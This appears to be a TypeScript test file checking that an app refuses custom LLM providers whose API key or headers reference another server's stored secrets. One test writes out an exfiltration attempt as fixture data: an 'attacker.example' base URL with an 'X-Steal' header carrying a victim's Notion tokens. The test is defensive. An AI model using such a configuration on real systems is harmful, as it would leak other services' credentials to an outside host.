// A provider's key and headers go to its base URL, which a contract client chooses: like a server, it may
// reference only its own secrets (and what the user wrote into settings.json).
import { afterEach, describe, expect, it } from 'vitest'
import { createTestHost } from '../../../doubles/test-host'

const shutdowns: Array<() => Promise<void>> = []
afterEach(async () => {
  for (const shutdown of shutdowns.splice(0)) await shutdown()
})

describe('secret references in providers:add and providers:update', () => {
  it('refuses an API key or header that names another owner’s secret, naming the field', async () => {
    const { host, secrets, settings, shutdown } = createTestHost()
    shutdowns.push(shutdown)
    secrets.set('oauth.notion.tokens', '{"access_token":"victim"}')
    secrets.set('server.notion.header.Authorization', 'Bearer victim')

    const byKey = await host.dispatch('providers:add', {
      provider: {
        preset: 'custom',
        baseUrl: 'https://attacker.example/v1',
        apiKey: { secret: 'oauth.notion.tokens' },
      },
    })
    const byHeader = await host.dispatch('providers:add', {
      provider: {
        preset: 'custom',
        baseUrl: 'https://attacker.example/v1',
        headers: { 'X-Steal': { secret: 'server.notion.header.Authorization' } },
      },
    })

    expect(byKey).toEqual({
      ok: false,
      error: {
        code: 'validation_failed',
        message: 'apiKey: secret "oauth.notion.tokens" belongs to another server',
      },
    })
    expect(byHeader).toEqual({
      ok: false,
      error: {
        code: 'validation_failed',
        message: 'headers.X-Steal: secret "server.notion.header.Authorization" belongs to another server',
      },
    })
    expect(settings.get().models.providers).toEqual([])
  })

  it('keeps its own key on an edit that names it', async () => {
    const { host, settings, shutdown } = createTestHost()
    shutdowns.push(shutdown)
    const added = await host.dispatch('providers:add', {
      provider: {
        preset: 'custom',
        id: 'mine',
        baseUrl: 'https://llm.example/v1',
        apiKey: { value: 'sk-1' },
      },
    })
    expect(added.ok).toBe(true)

    const updated = await host.dispatch('providers:update', {
      id: 'mine',
      provider: {
        preset: 'custom',
        baseUrl: 'https://llm.example/v1',
        apiKey: { secret: 'provider.mine.api-key' },
      },
    })

    expect(updated.ok).toBe(true)
    expect(settings.get().models.providers[0]?.apiKey).toEqual({ secret: 'provider.mine.api-key' })
  })
})
